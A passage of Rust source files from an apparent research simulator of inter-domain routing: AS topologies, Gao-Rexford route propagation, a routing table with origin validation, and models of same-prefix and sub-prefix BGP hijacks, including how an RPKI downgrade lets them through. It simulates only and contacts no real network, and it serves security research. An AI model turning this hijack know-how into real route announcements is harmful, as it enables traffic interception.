        assert_eq!(routes[&map["t1a"]].class, RouteClass::Customer);
        assert_eq!(routes[&map["t1a"]].path_len, 2);
    }

    #[test]
    fn peer_route_crosses_one_peering_edge() {
        let (topo, map) = AsTopology::small_test_topology();
        let routes = routes_to_origin(&topo, map["stub1"]);
        // t1b peers with t1a which has a customer route: t1b gets a peer route.
        assert_eq!(routes[&map["t1b"]].class, RouteClass::Peer);
        assert_eq!(routes[&map["t1b"]].path_len, 3);
    }

    #[test]
    fn provider_routes_flow_downward() {
        let (topo, map) = AsTopology::small_test_topology();
        let routes = routes_to_origin(&topo, map["stub1"]);
        // stub2 (sibling under tr1) learns via its provider tr1.
        assert_eq!(routes[&map["stub2"]].class, RouteClass::Provider);
        assert_eq!(routes[&map["stub2"]].path_len, 2);
        // stub4 must go stub4 <- tr3 <- t1b <- t1a <- tr1 <- stub1.
        assert_eq!(routes[&map["stub4"]].class, RouteClass::Provider);
        assert_eq!(routes[&map["stub4"]].path_len, 5);
    }

    #[test]
    fn customer_routes_preferred_over_shorter_peer_or_provider() {
        // Build a diamond where a provider route would be shorter than the
        // customer route: customer preference must still win.
        let mut topo = AsTopology::new();
        let a = AsId(1);
        let b = AsId(2);
        let c = AsId(3);
        let d = AsId(4);
        for id in [a, b, c, d] {
            topo.add_as(id, AsTier::Transit);
        }
        // d is a customer of c; c customer of b; b customer of a; and d is
        // also a *provider* of a (a cycle in business terms, fine for a test):
        // a can reach d either via its provider chain (customer route through
        // b? no) — keep it simple: a has customer route via... Let's verify
        // only that at c the direct customer edge to d (len 1) beats any
        // other path.
        topo.add_provider_customer(c, d);
        topo.add_provider_customer(b, c);
        topo.add_provider_customer(a, b);
        topo.add_peering(a, d);
        let routes = routes_to_origin(&topo, d);
        assert_eq!(routes[&c].class, RouteClass::Customer);
        assert_eq!(routes[&c].path_len, 1);
        // a: customer route via b->c->d has length 3; peer route via the
        // direct peering with d has length 1. Customer still wins.
        assert_eq!(routes[&a].class, RouteClass::Customer);
        assert_eq!(routes[&a].path_len, 3);
    }

    #[test]
    fn compare_origins_prefers_closer_attacker() {
        let (topo, map) = AsTopology::small_test_topology();
        // Victim stub1 (under tr1), attacker stub3 (under tr2). stub2 sits
        // under tr1 and should route to the victim; stub4 sits under tr3/t1b.
        let decision = compare_origins(&topo, map["stub1"], map["stub3"]);
        assert_eq!(decision[&map["tr1"]], map["stub1"], "tr1 has a customer route to its own stub");
        assert_eq!(decision[&map["tr2"]], map["stub3"]);
        assert_eq!(decision[&map["stub2"]], map["stub1"]);
        assert_eq!(decision[&map["stub3"]], map["stub3"]);
        // Every AS decided one way or the other.
        assert_eq!(decision.len(), topo.len());
    }

    #[test]
    fn route_preference_ordering() {
        let customer = RouteInfo { class: RouteClass::Customer, path_len: 5, next_hop: AsId(9) };
        let peer = RouteInfo { class: RouteClass::Peer, path_len: 1, next_hop: AsId(9) };
        let provider_short = RouteInfo { class: RouteClass::Provider, path_len: 1, next_hop: AsId(9) };
        let provider_long = RouteInfo { class: RouteClass::Provider, path_len: 3, next_hop: AsId(9) };
        assert!(customer.better_than(&peer));
        assert!(peer.better_than(&provider_short));
        assert!(provider_short.better_than(&provider_long));
    }
}
