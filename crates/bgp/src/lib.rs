//! # bgp — inter-domain routing substrate
//!
//! AS-level topology ([`topology`]), Gao-Rexford route propagation
//! ([`propagation`]), per-AS RIBs with longest-prefix-match and ROV filtering
//! ([`rib`]), BGP prefix hijack evaluation ([`hijack`]) and RPKI — ROAs,
//! repositories, relying parties and route-origin validation ([`rpki`]).
//!
//! Together these provide the control-plane half of the HijackDNS poisoning
//! methodology and the RPKI security mechanism that the paper's headline
//! cross-layer attack downgrades via DNS cache poisoning.
//!
//! ```
//! use bgp::prelude::*;
//!
//! // Can the attacker capture the victim's traffic with a same-prefix hijack?
//! let (topo, map) = AsTopology::small_test_topology();
//! let outcome = same_prefix_hijack(
//!     &topo,
//!     "30.0.0.0/22".parse().unwrap(),
//!     map["stub1"],          // victim origin
//!     map["stub3"],          // attacker origin
//!     Some(map["stub4"]),    // the AS whose traffic we care about
//!     &Default::default(),   // nobody enforces ROV
//!     &[],                   // no ROAs
//! );
//! assert!(outcome.captured_fraction > 0.0);
//! ```
#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod hijack;
pub mod propagation;
pub mod rib;
pub mod rpki;
pub mod topology;

/// Convenience re-exports.
pub mod prelude {
    pub use crate::hijack::{
        same_prefix_hijack, same_prefix_success_rate, sub_prefix_hijack, subprefix_hijackable, Announcement,
        HijackOutcome, MAX_ACCEPTED_PREFIX_LEN,
    };
    pub use crate::propagation::{compare_origins, routes_to_origin, RouteClass, RouteInfo};
    pub use crate::rib::{Rib, RibEntry};
    pub use crate::rpki::{validate, RelyingParty, Roa, RovPolicy, RpkiRepository, SyncOutcome, Validity};
    pub use crate::topology::{AsId, AsTier, AsTopology, Relationship};
    pub use netsim::prefix::Prefix;
}

pub use prelude::*;
