//! AS-level Internet topology.
//!
//! The paper's same-prefix-hijack numbers come from simulations over the
//! CAIDA AS-relationship graph with Gao-Rexford-compliant path selection
//! (Section 5.1.2, using the simulator of Hlavacek et al.). CAIDA data is not
//! redistributable here, so this module provides a **synthetic topology
//! generator** that reproduces the structural features those simulations
//! depend on: a small, fully-meshed clique of tier-1 transit-free providers,
//! a middle layer of transit ASes multi-homed to larger providers, a large
//! population of stub ASes (most of the Internet), and peer links that short-
//! circuit the hierarchy. Relationships are the standard customer-provider
//! and peer-peer types.

use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha20Rng;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, HashMap, HashSet};

/// An autonomous system number.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct AsId(pub u32);

impl std::fmt::Display for AsId {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "AS{}", self.0)
    }
}

/// Size/role class of an AS (used by the topology generator and by the
/// population models, which e.g. give universities large announcements and
/// RPKI repository operators /24s).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum AsTier {
    /// Transit-free tier-1 provider.
    Tier1,
    /// Mid-size transit provider.
    Transit,
    /// Stub/edge AS (enterprise, university, eyeball network).
    Stub,
}

/// Business relationship between two adjacent ASes, from the perspective of
/// the first AS.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Relationship {
    /// The neighbour is a customer (we provide transit to them).
    Customer,
    /// The neighbour is a settlement-free peer.
    Peer,
    /// The neighbour is a provider (they provide transit to us).
    Provider,
}

/// The AS-level topology graph.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct AsTopology {
    // BTreeMaps, not HashMaps: iteration order (e.g. `ases()`) must be a
    // pure function of the contents, or two same-seed topologies would feed
    // differently-ordered AS lists into downstream sampling and silently
    // break the workspace-wide bit-identical-replay guarantee.
    tiers: BTreeMap<AsId, AsTier>,
    /// adjacency: for each AS, its neighbours and the relationship *of the
    /// neighbour to this AS* (e.g. `Customer` means "that neighbour is my
    /// customer").
    neighbors: BTreeMap<AsId, Vec<(AsId, Relationship)>>,
}

impl AsTopology {
    /// Creates an empty topology.
    pub fn new() -> Self {
        AsTopology::default()
    }

    /// Adds an AS with the given tier.
    pub fn add_as(&mut self, id: AsId, tier: AsTier) {
        self.tiers.insert(id, tier);
        self.neighbors.entry(id).or_default();
    }

    /// Adds a customer-provider edge: `provider` provides transit to `customer`.
    pub fn add_provider_customer(&mut self, provider: AsId, customer: AsId) {
        self.neighbors.entry(provider).or_default().push((customer, Relationship::Customer));
        self.neighbors.entry(customer).or_default().push((provider, Relationship::Provider));
    }

    /// Adds a settlement-free peering edge.
    pub fn add_peering(&mut self, a: AsId, b: AsId) {
        self.neighbors.entry(a).or_default().push((b, Relationship::Peer));
        self.neighbors.entry(b).or_default().push((a, Relationship::Peer));
    }

    /// All AS identifiers.
    pub fn ases(&self) -> impl Iterator<Item = AsId> + '_ {
        self.tiers.keys().copied()
    }

    /// Number of ASes.
    pub fn len(&self) -> usize {
        self.tiers.len()
    }

    /// Whether the topology is empty.
    pub fn is_empty(&self) -> bool {
        self.tiers.is_empty()
    }

    /// The tier of an AS.
    pub fn tier(&self, id: AsId) -> Option<AsTier> {
        self.tiers.get(&id).copied()
    }

    /// Neighbours of an AS with their relationship to it.
    pub fn neighbors(&self, id: AsId) -> &[(AsId, Relationship)] {
        self.neighbors.get(&id).map(Vec::as_slice).unwrap_or(&[])
    }

    /// All ASes of a given tier.
    pub fn ases_of_tier(&self, tier: AsTier) -> Vec<AsId> {
        let mut v: Vec<AsId> = self.tiers.iter().filter(|(_, &t)| t == tier).map(|(&id, _)| id).collect();
        v.sort();
        v
    }

    /// Providers of an AS.
    pub fn providers(&self, id: AsId) -> Vec<AsId> {
        self.neighbors(id).iter().filter(|(_, r)| *r == Relationship::Provider).map(|(n, _)| *n).collect()
    }

    /// Customers of an AS.
    pub fn customers(&self, id: AsId) -> Vec<AsId> {
        self.neighbors(id).iter().filter(|(_, r)| *r == Relationship::Customer).map(|(n, _)| *n).collect()
    }

    /// Peers of an AS.
    pub fn peers(&self, id: AsId) -> Vec<AsId> {
        self.neighbors(id).iter().filter(|(_, r)| *r == Relationship::Peer).map(|(n, _)| *n).collect()
    }

    /// Number of edges (counted once per adjacency pair).
    pub fn edge_count(&self) -> usize {
        self.neighbors.values().map(Vec::len).sum::<usize>() / 2
    }

    /// Generates a synthetic Internet-like topology.
    ///
    /// * `tier1` tier-1 ASes, fully meshed with peer links;
    /// * `transit` transit ASes, each with 1–3 providers drawn from tier-1 and
    ///   earlier transit ASes, plus sparse peering among themselves;
    /// * `stubs` stub ASes, each with 1–2 providers drawn from the transit layer.
    ///
    /// Deterministic for a given `seed`.
    pub fn generate(tier1: usize, transit: usize, stubs: usize, seed: u64) -> Self {
        let mut rng = ChaCha20Rng::seed_from_u64(seed);
        let mut topo = AsTopology::new();
        let mut next_id = 1u32;
        let mut alloc = |n: usize| -> Vec<AsId> {
            let ids: Vec<AsId> = (0..n).map(|i| AsId(next_id + i as u32)).collect();
            next_id += n as u32;
            ids
        };

        let tier1_ids = alloc(tier1.max(1));
        let transit_ids = alloc(transit);
        let stub_ids = alloc(stubs);

        for &id in &tier1_ids {
            topo.add_as(id, AsTier::Tier1);
        }
        // Full mesh of peer links among tier-1s.
        for (i, &a) in tier1_ids.iter().enumerate() {
            for &b in &tier1_ids[i + 1..] {
                topo.add_peering(a, b);
            }
        }

        for &id in &transit_ids {
            topo.add_as(id, AsTier::Transit);
        }
        for (i, &id) in transit_ids.iter().enumerate() {
            let mut candidates: Vec<AsId> = tier1_ids.clone();
            candidates.extend_from_slice(&transit_ids[..i]);
            let n_providers = rng.gen_range(1..=3.min(candidates.len()));
            candidates.shuffle(&mut rng);
            let mut chosen = HashSet::new();
            for &p in candidates.iter().take(n_providers) {
                if chosen.insert(p) {
                    topo.add_provider_customer(p, id);
                }
            }
        }
        // Sparse peering among transits. Skip pairs that already have a
        // provider-customer edge: a second, conflicting adjacency would make
        // the relationship between the pair ambiguous.
        for (i, &a) in transit_ids.iter().enumerate() {
            for &b in &transit_ids[i + 1..] {
                if rng.gen::<f64>() < 0.05 && !topo.neighbors(a).iter().any(|&(n, _)| n == b) {
                    topo.add_peering(a, b);
                }
            }
        }

        for &id in &stub_ids {
            topo.add_as(id, AsTier::Stub);
        }
        for &id in &stub_ids {
            let pool: &[AsId] = if transit_ids.is_empty() { &tier1_ids } else { &transit_ids };
            let n_providers = if rng.gen::<f64>() < 0.3 { 2 } else { 1 }.min(pool.len());
            // Use an ordered set so the edge insertion order (and therefore
            // the whole topology) is reproducible for a given seed.
            let mut chosen = std::collections::BTreeSet::new();
            while chosen.len() < n_providers {
                let p = pool[rng.gen_range(0..pool.len())];
                chosen.insert(p);
            }
            for p in chosen {
                topo.add_provider_customer(p, id);
            }
        }
        topo
    }

    /// A small hand-built topology useful in unit tests and examples:
    ///
    /// ```text
    ///        T1a ==== T1b          (peers)
    ///        /  \      \
    ///      Tr1   Tr2    Tr3        (transit customers)
    ///      /  \    \     \
    ///   Stub1 Stub2 Stub3 Stub4    (stubs)
    /// ```
    pub fn small_test_topology() -> (Self, HashMap<&'static str, AsId>) {
        let mut topo = AsTopology::new();
        let names: Vec<(&str, AsTier)> = vec![
            ("t1a", AsTier::Tier1),
            ("t1b", AsTier::Tier1),
            ("tr1", AsTier::Transit),
            ("tr2", AsTier::Transit),
            ("tr3", AsTier::Transit),
            ("stub1", AsTier::Stub),
            ("stub2", AsTier::Stub),
            ("stub3", AsTier::Stub),
            ("stub4", AsTier::Stub),
        ];
        let mut map = HashMap::new();
        for (i, (name, tier)) in names.iter().enumerate() {
            let id = AsId(i as u32 + 100);
            topo.add_as(id, *tier);
            map.insert(*name, id);
        }
        topo.add_peering(map["t1a"], map["t1b"]);
        topo.add_provider_customer(map["t1a"], map["tr1"]);
        topo.add_provider_customer(map["t1a"], map["tr2"]);
        topo.add_provider_customer(map["t1b"], map["tr3"]);
        topo.add_provider_customer(map["tr1"], map["stub1"]);
        topo.add_provider_customer(map["tr1"], map["stub2"]);
        topo.add_provider_customer(map["tr2"], map["stub3"]);
        topo.add_provider_customer(map["tr3"], map["stub4"]);
        (topo, map)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generated_topology_has_requested_sizes() {
        let topo = AsTopology::generate(5, 20, 100, 42);
        assert_eq!(topo.len(), 125);
        assert_eq!(topo.ases_of_tier(AsTier::Tier1).len(), 5);
        assert_eq!(topo.ases_of_tier(AsTier::Transit).len(), 20);
        assert_eq!(topo.ases_of_tier(AsTier::Stub).len(), 100);
        assert!(!topo.is_empty());
    }

    #[test]
    fn tier1_full_mesh() {
        let topo = AsTopology::generate(6, 10, 50, 1);
        for a in topo.ases_of_tier(AsTier::Tier1) {
            assert!(topo.peers(a).len() >= 5, "tier-1 {a} peers with all other tier-1s");
            assert!(topo.providers(a).is_empty(), "tier-1 ASes are transit-free");
        }
    }

    #[test]
    fn every_non_tier1_has_a_provider() {
        let topo = AsTopology::generate(4, 15, 200, 7);
        for id in topo.ases() {
            if topo.tier(id) != Some(AsTier::Tier1) {
                assert!(!topo.providers(id).is_empty(), "{id} must have a provider");
            }
        }
    }

    #[test]
    fn stubs_have_no_customers() {
        let topo = AsTopology::generate(4, 15, 200, 7);
        for id in topo.ases_of_tier(AsTier::Stub) {
            assert!(topo.customers(id).is_empty());
        }
    }

    #[test]
    fn relationships_are_symmetric() {
        let topo = AsTopology::generate(3, 10, 60, 3);
        for a in topo.ases() {
            for &(b, rel) in topo.neighbors(a) {
                let reverse = topo.neighbors(b).iter().find(|(n, _)| *n == a).map(|(_, r)| *r);
                let expected = match rel {
                    Relationship::Customer => Relationship::Provider,
                    Relationship::Provider => Relationship::Customer,
                    Relationship::Peer => Relationship::Peer,
                };
                assert_eq!(reverse, Some(expected));
            }
        }
    }

    #[test]
    fn deterministic_for_seed() {
        let a = AsTopology::generate(4, 10, 50, 99);
        let b = AsTopology::generate(4, 10, 50, 99);
        assert_eq!(a.edge_count(), b.edge_count());
        for id in a.ases() {
            assert_eq!(a.neighbors(id), b.neighbors(id));
        }
    }

    #[test]
    fn small_test_topology_shape() {
        let (topo, map) = AsTopology::small_test_topology();
        assert_eq!(topo.len(), 9);
        assert_eq!(topo.peers(map["t1a"]), vec![map["t1b"]]);
        assert_eq!(topo.providers(map["stub1"]), vec![map["tr1"]]);
        assert_eq!(topo.customers(map["tr1"]).len(), 2);
    }
}
