//! BGP prefix hijack modelling.
//!
//! Two hijack flavours from Section 3.1 / 4.4.1 of the paper:
//!
//! * **sub-prefix hijack** — the attacker announces a more specific prefix
//!   than the victim's covering announcement; longest-prefix-match forwarding
//!   then sends *all* traffic for that sub-prefix to the attacker, from every
//!   AS that accepted the announcement. Because most networks filter
//!   announcements more specific than /24, an address is sub-prefix
//!   hijackable exactly when its covering announcement is shorter than /24.
//! * **same-prefix hijack** — the attacker announces the victim's exact
//!   prefix; each AS routes to whichever origin its Gao-Rexford policy
//!   prefers, so only part of the Internet is captured (the paper measures
//!   ~80 % success over random attacker/victim pairs).
//!
//! Route-origin validation interacts with both: an ROV-enforcing AS ignores
//! the attacker's announcement when the relying-party cache marks it
//! `Invalid` — unless the RPKI downgrade attack has emptied that cache.

use crate::propagation::compare_origins;
use crate::rpki::{validate, Roa, RovPolicy};
use crate::topology::{AsId, AsTopology};
use netsim::prefix::Prefix;
use rand::seq::SliceRandom;
use rand::SeedableRng;
use rand_chacha::ChaCha20Rng;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// The longest prefix length most networks accept from eBGP neighbours.
pub const MAX_ACCEPTED_PREFIX_LEN: u8 = 24;

/// Whether an address covered by an announcement of `announced` length can be
/// sub-prefix hijacked (i.e. a strictly more specific announcement that is
/// still ≤ /24 exists).
pub fn subprefix_hijackable(announced: Prefix) -> bool {
    announced.len < MAX_ACCEPTED_PREFIX_LEN
}

/// An announcement in the hijack analysis.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Announcement {
    /// The announced prefix.
    pub prefix: Prefix,
    /// The origin AS.
    pub origin: AsId,
}

/// Result of evaluating a hijack attempt against a topology.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct HijackOutcome {
    /// Fraction of ASes whose traffic for the target is captured by the attacker.
    pub captured_fraction: f64,
    /// Which ASes route to the attacker.
    pub captured_ases: Vec<AsId>,
    /// Whether the specific target AS (if given) was captured.
    pub target_captured: Option<bool>,
}

/// Evaluates a **same-prefix** hijack: `attacker` announces the same prefix
/// as `victim`. `rov` gives each AS's ROV policy (missing = not enforced) and
/// `roas` is the ROA set visible to enforcing ASes (an emptied relying-party
/// cache — the downgrade attack — is modelled by passing an empty slice).
pub fn same_prefix_hijack(
    topo: &AsTopology,
    prefix: Prefix,
    victim: AsId,
    attacker: AsId,
    target: Option<AsId>,
    rov: &HashMap<AsId, RovPolicy>,
    roas: &[Roa],
) -> HijackOutcome {
    let attacker_validity = validate(prefix, attacker, roas);
    let decisions = compare_origins(topo, victim, attacker);
    let mut captured = Vec::new();
    for (&asn, &preferred) in &decisions {
        let policy = rov.get(&asn).copied().unwrap_or(RovPolicy::NotEnforced);
        let accepts_attacker = policy.accepts(attacker_validity);
        if preferred == attacker && accepts_attacker && asn != victim {
            captured.push(asn);
        }
    }
    captured.sort();
    let denom = (topo.len().saturating_sub(1)).max(1) as f64;
    HijackOutcome {
        captured_fraction: captured.len() as f64 / denom,
        target_captured: target.map(|t| captured.contains(&t)),
        captured_ases: captured,
    }
}

/// Evaluates a **sub-prefix** hijack of `victim_announcement` by `attacker`.
/// If the victim's announcement is already /24 (or longer) the hijack fails;
/// otherwise every AS that accepts the more-specific announcement (ROV
/// permitting) is captured.
pub fn sub_prefix_hijack(
    topo: &AsTopology,
    victim_announcement: Announcement,
    attacker: AsId,
    target: Option<AsId>,
    rov: &HashMap<AsId, RovPolicy>,
    roas: &[Roa],
) -> HijackOutcome {
    if !subprefix_hijackable(victim_announcement.prefix) {
        return HijackOutcome {
            captured_fraction: 0.0,
            captured_ases: Vec::new(),
            target_captured: target.map(|_| false),
        };
    }
    let sub = Prefix::new(victim_announcement.prefix.addr, MAX_ACCEPTED_PREFIX_LEN);
    let attacker_validity = validate(sub, attacker, roas);
    let mut captured = Vec::new();
    for asn in topo.ases() {
        if asn == victim_announcement.origin {
            continue;
        }
        let policy = rov.get(&asn).copied().unwrap_or(RovPolicy::NotEnforced);
        if policy.accepts(attacker_validity) {
            captured.push(asn);
        }
    }
    captured.sort();
    let denom = (topo.len().saturating_sub(1)).max(1) as f64;
    HijackOutcome {
        captured_fraction: captured.len() as f64 / denom,
        target_captured: target.map(|t| captured.contains(&t)),
        captured_ases: captured,
    }
}

/// Runs the paper's same-prefix hijack *simulation study*: `trials` random
/// (attacker, victim, target) triples; returns the fraction of trials in
/// which the attacker captured the target AS's traffic (Section 5.1.2 reports
/// ≈ 80 % capture across evaluations).
pub fn same_prefix_success_rate(topo: &AsTopology, trials: usize, seed: u64) -> f64 {
    let mut rng = ChaCha20Rng::seed_from_u64(seed);
    let ases: Vec<AsId> = topo.ases().collect();
    if ases.len() < 3 || trials == 0 {
        return 0.0;
    }
    let prefix: Prefix = "30.0.0.0/22".parse().expect("static prefix");
    let rov = HashMap::new();
    let mut successes = 0usize;
    for _ in 0..trials {
        let picks: Vec<AsId> = ases.choose_multiple(&mut rng, 3).copied().collect();
        let (victim, attacker, target) = (picks[0], picks[1], picks[2]);
        let outcome = same_prefix_hijack(topo, prefix, victim, attacker, Some(target), &rov, &[]);
        if outcome.target_captured == Some(true) {
            successes += 1;
        }
    }
    successes as f64 / trials as f64
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::topology::AsTier;

    fn p(s: &str) -> Prefix {
        s.parse().unwrap()
    }

    #[test]
    fn subprefix_hijackability_depends_on_announced_length() {
        assert!(subprefix_hijackable(p("30.0.0.0/22")));
        assert!(subprefix_hijackable(p("10.0.0.0/16")));
        assert!(!subprefix_hijackable(p("30.0.1.0/24")));
        assert!(!subprefix_hijackable(p("30.0.1.0/28")));
    }

    #[test]
    fn sub_prefix_hijack_captures_everyone_without_rov() {
        let (topo, map) = AsTopology::small_test_topology();
        let victim = Announcement { prefix: p("30.0.0.0/22"), origin: map["stub1"] };
        let outcome = sub_prefix_hijack(&topo, victim, map["stub3"], Some(map["stub4"]), &HashMap::new(), &[]);
        assert_eq!(outcome.target_captured, Some(true));
        assert!(outcome.captured_fraction > 0.9);
    }

    #[test]
    fn sub_prefix_hijack_fails_against_slash24() {
        let (topo, map) = AsTopology::small_test_topology();
        let victim = Announcement { prefix: p("30.0.1.0/24"), origin: map["stub1"] };
        let outcome = sub_prefix_hijack(&topo, victim, map["stub3"], Some(map["stub4"]), &HashMap::new(), &[]);
        assert_eq!(outcome.captured_fraction, 0.0);
        assert_eq!(outcome.target_captured, Some(false));
    }

    #[test]
    fn rov_filters_invalid_subprefix_announcement() {
        let (topo, map) = AsTopology::small_test_topology();
        let victim = Announcement { prefix: p("30.0.0.0/22"), origin: map["stub1"] };
        let roas = vec![Roa::exact(p("30.0.0.0/22"), AsId(map["stub1"].0))];
        // Every AS enforces ROV.
        let rov: HashMap<AsId, RovPolicy> = topo.ases().map(|a| (a, RovPolicy::Enforced)).collect();
        let outcome = sub_prefix_hijack(&topo, victim, map["stub3"], Some(map["stub4"]), &rov, &roas);
        assert_eq!(outcome.captured_fraction, 0.0, "ROV everywhere stops the sub-prefix hijack");
        // With the relying-party cache emptied (RPKI downgrade), the same
        // announcement is NotFound and the hijack works again.
        let outcome = sub_prefix_hijack(&topo, victim, map["stub3"], Some(map["stub4"]), &rov, &[]);
        assert!(outcome.captured_fraction > 0.9, "downgrade re-enables the hijack");
        assert_eq!(outcome.target_captured, Some(true));
    }

    #[test]
    fn same_prefix_hijack_splits_the_internet() {
        let (topo, map) = AsTopology::small_test_topology();
        let outcome =
            same_prefix_hijack(&topo, p("30.0.0.0/22"), map["stub1"], map["stub3"], None, &HashMap::new(), &[]);
        // Some ASes go to the attacker, some stay with the victim.
        assert!(outcome.captured_fraction > 0.0);
        assert!(outcome.captured_fraction < 1.0);
        // ASes topologically close to the attacker (its provider) are captured.
        assert!(outcome.captured_ases.contains(&map["tr2"]));
        // The victim's own provider keeps its customer route to the victim.
        assert!(!outcome.captured_ases.contains(&map["tr1"]));
    }

    #[test]
    fn same_prefix_hijack_with_rov_and_valid_roa_fails() {
        let (topo, map) = AsTopology::small_test_topology();
        let roas = vec![Roa::exact(p("30.0.0.0/22"), AsId(map["stub1"].0))];
        let rov: HashMap<AsId, RovPolicy> = topo.ases().map(|a| (a, RovPolicy::Enforced)).collect();
        let outcome =
            same_prefix_hijack(&topo, p("30.0.0.0/22"), map["stub1"], map["stub3"], Some(map["stub4"]), &rov, &roas);
        assert_eq!(outcome.captured_fraction, 0.0);
    }

    #[test]
    fn success_rate_on_synthetic_topology_is_substantial() {
        // The paper reports ~80% capture for random attacker/victim pairs.
        // On the synthetic topology we require the same order of magnitude
        // (well above half), not the exact figure.
        let topo = AsTopology::generate(5, 30, 300, 11);
        let rate = same_prefix_success_rate(&topo, 200, 99);
        assert!(rate > 0.35 && rate < 1.0, "success rate {rate} out of expected band");
    }

    #[test]
    fn success_rate_deterministic_for_seed() {
        let topo = AsTopology::generate(4, 20, 150, 3);
        assert_eq!(same_prefix_success_rate(&topo, 100, 7), same_prefix_success_rate(&topo, 100, 7));
    }

    #[test]
    fn stub_victims_are_rarely_immune() {
        // A tier-1 attacker captures traffic of most stubs.
        let topo = AsTopology::generate(5, 30, 200, 13);
        let tier1 = topo.ases_of_tier(AsTier::Tier1)[0];
        let stubs = topo.ases_of_tier(AsTier::Stub);
        let victim = stubs[0];
        let outcome = same_prefix_hijack(&topo, p("30.0.0.0/22"), victim, tier1, None, &HashMap::new(), &[]);
        assert!(outcome.captured_fraction > 0.3);
    }
}
