//! A per-AS routing information base with longest-prefix-match lookup.
//!
//! The RIB ties the control plane (announcements, hijacks, ROV filtering) to
//! the data plane: the cross-layer scenarios ask "where does traffic for the
//! nameserver's address go from the resolver's AS?" and install the answer as
//! a route override in the packet-level simulator.

use crate::rpki::{validate, Roa, RovPolicy, Validity};
use crate::topology::AsId;
use netsim::prefix::Prefix;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// One candidate route for a prefix.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct RibEntry {
    /// The announced prefix.
    pub prefix: Prefix,
    /// The origin AS of the announcement.
    pub origin: AsId,
    /// AS-path length to the origin (local preference proxy).
    pub path_len: u32,
    /// Validation state of the announcement at insertion time.
    pub validity: Validity,
}

/// A routing table of one AS.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Rib {
    /// ROV policy applied when installing routes.
    pub rov: RovPolicy,
    routes: HashMap<Prefix, Vec<RibEntry>>,
}

impl Rib {
    /// An empty RIB with the given ROV policy.
    pub fn new(rov: RovPolicy) -> Self {
        Rib { rov, routes: HashMap::new() }
    }

    /// Offers an announcement to the RIB; it is installed unless ROV rejects
    /// it. Returns whether it was installed.
    pub fn offer(&mut self, prefix: Prefix, origin: AsId, path_len: u32, roas: &[Roa]) -> bool {
        let validity = validate(prefix, origin, roas);
        if !self.rov.accepts(validity) {
            return false;
        }
        self.routes.entry(prefix).or_default().push(RibEntry { prefix, origin, path_len, validity });
        true
    }

    /// Withdraws all routes for `prefix` originated by `origin`.
    pub fn withdraw(&mut self, prefix: Prefix, origin: AsId) {
        if let Some(entries) = self.routes.get_mut(&prefix) {
            entries.retain(|e| e.origin != origin);
            if entries.is_empty() {
                self.routes.remove(&prefix);
            }
        }
    }

    /// Longest-prefix-match lookup: the best entry (shortest path among the
    /// most specific prefix) covering `addr`.
    pub fn best_route(&self, addr: Ipv4Addr) -> Option<RibEntry> {
        self.routes
            .iter()
            .filter(|(p, _)| p.contains(addr))
            .max_by_key(|(p, _)| p.len)
            .and_then(|(_, entries)| entries.iter().min_by_key(|e| (e.path_len, e.origin.0)).copied())
    }

    /// All installed prefixes.
    pub fn prefixes(&self) -> impl Iterator<Item = &Prefix> {
        self.routes.keys()
    }

    /// Number of installed prefixes.
    pub fn len(&self) -> usize {
        self.routes.len()
    }

    /// Whether the RIB holds no routes.
    pub fn is_empty(&self) -> bool {
        self.routes.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(s: &str) -> Prefix {
        s.parse().unwrap()
    }

    #[test]
    fn longest_prefix_match_wins() {
        let mut rib = Rib::new(RovPolicy::NotEnforced);
        assert!(rib.offer(p("30.0.0.0/22"), AsId(64500), 3, &[]));
        assert!(rib.offer(p("30.0.1.0/24"), AsId(666), 5, &[]));
        let best = rib.best_route("30.0.1.77".parse().unwrap()).unwrap();
        assert_eq!(best.origin, AsId(666), "the more specific /24 wins despite the longer path");
        let other = rib.best_route("30.0.2.1".parse().unwrap()).unwrap();
        assert_eq!(other.origin, AsId(64500));
        assert!(rib.best_route("99.9.9.9".parse().unwrap()).is_none());
    }

    #[test]
    fn shorter_path_preferred_within_same_prefix() {
        let mut rib = Rib::new(RovPolicy::NotEnforced);
        rib.offer(p("30.0.0.0/22"), AsId(64500), 4, &[]);
        rib.offer(p("30.0.0.0/22"), AsId(666), 2, &[]);
        assert_eq!(rib.best_route("30.0.0.1".parse().unwrap()).unwrap().origin, AsId(666));
    }

    #[test]
    fn rov_enforcing_rib_rejects_invalid() {
        let roas = vec![Roa::exact(p("30.0.0.0/22"), AsId(64500))];
        let mut rib = Rib::new(RovPolicy::Enforced);
        assert!(rib.offer(p("30.0.0.0/22"), AsId(64500), 3, &roas));
        assert!(!rib.offer(p("30.0.0.0/24"), AsId(666), 1, &roas), "invalid sub-prefix announcement rejected");
        assert_eq!(rib.len(), 1);
        // Downgrade: with an empty ROA set the same announcement is NotFound
        // and gets installed.
        assert!(rib.offer(p("30.0.0.0/24"), AsId(666), 1, &[]));
        assert_eq!(rib.best_route("30.0.0.5".parse().unwrap()).unwrap().origin, AsId(666));
    }

    #[test]
    fn withdraw_removes_routes() {
        let mut rib = Rib::new(RovPolicy::NotEnforced);
        rib.offer(p("30.0.0.0/22"), AsId(64500), 3, &[]);
        rib.offer(p("30.0.0.0/22"), AsId(666), 1, &[]);
        rib.withdraw(p("30.0.0.0/22"), AsId(666));
        assert_eq!(rib.best_route("30.0.0.1".parse().unwrap()).unwrap().origin, AsId(64500));
